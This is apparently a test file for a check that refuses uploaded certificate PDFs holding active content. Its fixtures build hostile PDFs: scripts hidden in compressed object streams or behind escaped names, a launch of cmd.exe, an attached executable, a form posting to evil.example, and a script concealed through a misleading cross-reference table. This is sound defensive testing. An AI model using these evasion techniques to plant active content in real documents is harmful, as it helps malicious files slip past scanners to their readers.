/**
 * The certificate PDF check (decision 041): the PDF is parsed, so what a
 * viewer would act on cannot hide from the check in a compressed object
 * stream or behind an escaped name (`/J#61vaScript`), and a PDF that does
 * not parse is refused. The PDFs are made here with the same library.
 */
import { PDFDocument, PDFName, PDFString, StandardFonts, type PDFContext, type PDFObject } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { DOCUMENT_TEXT } from "./image-files";
import { checkPdf } from "./pdf.server";

const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");
/** The names the check once searched the file's text for. */
const PLAIN_ACTIVE = /\/(JavaScript|JS|Launch|EmbeddedFile|EmbeddedFiles|RichMedia|XFA|SubmitForm|ImportData)\b/;

/** A one-page certificate; `dress` adds to it before it is saved. */
async function certificate(dress: (doc: PDFDocument, context: PDFContext) => void | Promise<void> = () => {}, useObjectStreams = true): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText("Client Money Protection: certificate of membership", { x: 50, y: 760, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  await dress(doc, doc.context);
  return doc.save({ useObjectStreams });
}

/** An indirect object (an action, an annotation), which the library writes into a compressed object stream. */
function indirect(context: PDFContext, value: Record<string, unknown>): PDFObject {
  return context.register(context.obj(value as Parameters<PDFContext["obj"]>[0]));
}

/** A link annotation on the first page whose action is `action`. */
function linkWith(doc: PDFDocument, action: Record<string, unknown>): void {
  const annotation = indirect(doc.context, { Type: "Annot", Subtype: "Link", Rect: [50, 700, 300, 720], A: indirect(doc.context, action) });
  doc.getPage(0).node.set(PDFName.of("Annots"), doc.context.obj([annotation]));
}

/** `bytes` with each placeholder name replaced by a name of the same length written with #xx escapes (the offsets stay right). */
function escapeNames(bytes: Uint8Array, names: Record<string, string>): Uint8Array {
  let text = latin1(bytes);
  for (const [placeholder, escaped] of Object.entries(names)) {
    expect(placeholder.length).toBe(escaped.length);
    expect(text).toContain(placeholder);
    text = text.replaceAll(placeholder, escaped);
  }
  return Buffer.from(text, "latin1");
}

const accepted = (bytes: Uint8Array) => expect(Promise.resolve().then(() => checkPdf(bytes))).resolves.toBeUndefined();
const refused = (bytes: Uint8Array, message: string) => expect(Promise.resolve().then(() => checkPdf(bytes))).rejects.toThrow(message);

describe("the certificate PDF check", () => {
  it("accepts a certificate, with and without object streams, opening at its first page, linking to its scheme", async () => {
    await accepted(await certificate());
    await accepted(await certificate(() => {}, false));
    await accepted(await certificate((doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([doc.getPage(0).ref, PDFName.of("Fit")]))));
    await accepted(await certificate((doc) => linkWith(doc, { S: "URI", URI: PDFString.of("https://www.propertymark.co.uk/") })));
  });

  it("finds a script inside a compressed object stream, where the file's text does not show it", async () => {
    const bytes = await certificate((doc, context) => {
      doc.catalog.set(PDFName.of("OpenAction"), indirect(context, { S: "JavaScript", JS: PDFString.of("app.alert(1)") }));
    });
    expect(latin1(bytes)).toContain("/ObjStm");
    expect(latin1(bytes)).not.toMatch(PLAIN_ACTIVE);
    await refused(bytes, DOCUMENT_TEXT.active);
  });

  it("finds a script behind escaped names, in capitals and in lower case", async () => {
    const plain = await certificate((doc, context) => {
      doc.catalog.set(PDFName.of("OpenActionZZ"), indirect(context, { S: "JavaScriptZZ", JSZZ: PDFString.of("app.alert(1)") }));
    }, false);
    for (const javaScript of ["/J#61vaScript", "/#4aavaScript"]) {
      const bytes = escapeNames(plain, { "/OpenActionZZ": "/Open#41ction", "/JavaScriptZZ": javaScript, "/JSZZ": "/J#53" });
      expect(latin1(bytes)).not.toMatch(PLAIN_ACTIVE);
      await refused(bytes, DOCUMENT_TEXT.active);
    }
  });

  it.each([
    ["a document-level script", async (doc: PDFDocument) => doc.addJavaScript("welcome", "app.alert('hello')")],
    ["an attached file", async (doc: PDFDocument) => doc.attach(Buffer.from("MZ not a certificate"), "setup.exe", { mimeType: "application/octet-stream" })],
    [
      "a script run when a page opens (/AA)",
      (doc: PDFDocument) => doc.getPage(0).node.set(PDFName.of("AA"), indirect(doc.context, { O: indirect(doc.context, { S: "Named", N: "Print" }) })),
    ],
    ["a link that launches a program", (doc: PDFDocument) => linkWith(doc, { S: "Launch", F: PDFString.of("cmd.exe") })],
    ["a javascript: link", (doc: PDFDocument) => linkWith(doc, { S: "URI", URI: PDFString.of(" JaVaScript:app.alert(1)") })],
    ["a file: link", (doc: PDFDocument) => linkWith(doc, { S: "URI", URI: PDFString.of("file://server/share/x") })],
    ["a link to another PDF (/GoToR)", (doc: PDFDocument) => linkWith(doc, { S: "GoToR", F: PDFString.of("other.pdf"), D: [0, "Fit"] })],
    ["a form that sends itself (/SubmitForm)", (doc: PDFDocument) => linkWith(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/") })],
    ["a form that imports data (/ImportData)", (doc: PDFDocument) => linkWith(doc, { S: "ImportData", F: PDFString.of("data.fdf") })],
    [
      "an XFA form",
      (doc: PDFDocument) => doc.catalog.set(PDFName.of("AcroForm"), indirect(doc.context, { Fields: [], XFA: indirect(doc.context, { Type: "XObject" }) })),
    ],
    [
      "rich media",
      (doc: PDFDocument) =>
        doc.getPage(0).node.set(PDFName.of("Annots"), doc.context.obj([indirect(doc.context, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })])),
    ],
    [
      "an opening action that is not a place in the document",
      (doc: PDFDocument) => doc.catalog.set(PDFName.of("OpenAction"), indirect(doc.context, { S: "URI", URI: PDFString.of("https://tracker.example/") })),
    ],
  ])("refuses %s, kept in a compressed object stream", async (_label, dress) => {
    await refused(await certificate(dress), DOCUMENT_TEXT.active);
  });

  it("refuses a PDF that does not parse: a broken object, a damaged object stream, a cut-off file", async () => {
    const plain = latin1(await certificate(() => {}, false));
    // An object whose dictionary never closes, the file around it intact.
    const broken = plain.replace("/Type /Pages", "/Type /Pages /Kids [ <<");
    await refused(Buffer.from(broken, "latin1"), DOCUMENT_TEXT.damaged);

    const compressed = latin1(await certificate());
    const objectStream = /\/Type \/ObjStm[\s\S]*?stream\r?\n/.exec(compressed)!;
    const start = objectStream.index + objectStream[0].length;
    const damaged = `${compressed.slice(0, start)}${"\u0000".repeat(40)}${compressed.slice(start + 40)}`;
    await refused(Buffer.from(damaged, "latin1"), DOCUMENT_TEXT.damaged);

    await refused(Buffer.from(compressed.slice(0, Math.floor(compressed.length * 0.6)), "latin1"), DOCUMENT_TEXT.damaged);
  });

  it("refuses a PDF whose cross-reference table points inside a stream, at an object only a viewer would read", async () => {
    // Object 5 sits inside object 4's bytes; the link's action refers to it, and the table says where it is.
    const hidden = "\n5 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n";
    const objects = [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 5 0 R >>] >>",
      `<< /Length ${hidden.length} >>\nstream${hidden}endstream`,
    ];
    let body = "%PDF-1.4\n";
    const offsets: number[] = [];
    objects.forEach((object, index) => {
      offsets.push(body.length);
      body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    });
    offsets.push(body.indexOf("5 0 obj"));
    const xref = body.length;
    body += `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("")}`;
    body += `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
    const bytes = Buffer.from(body, "latin1");
    expect(latin1(bytes)).not.toMatch(PLAIN_ACTIVE);
    await refused(bytes, DOCUMENT_TEXT.damaged);
  });

  it("refuses an encrypted PDF, whose contents cannot be checked, saying how to make one that can", async () => {
    for (const userPassword of ["", "secret"]) {
      const bytes = await certificate((doc) => doc.encrypt({ userPassword, ownerPassword: "owner", permissions: { modifying: false } }));
      await refused(bytes, DOCUMENT_TEXT.encrypted);
    }
  });
});
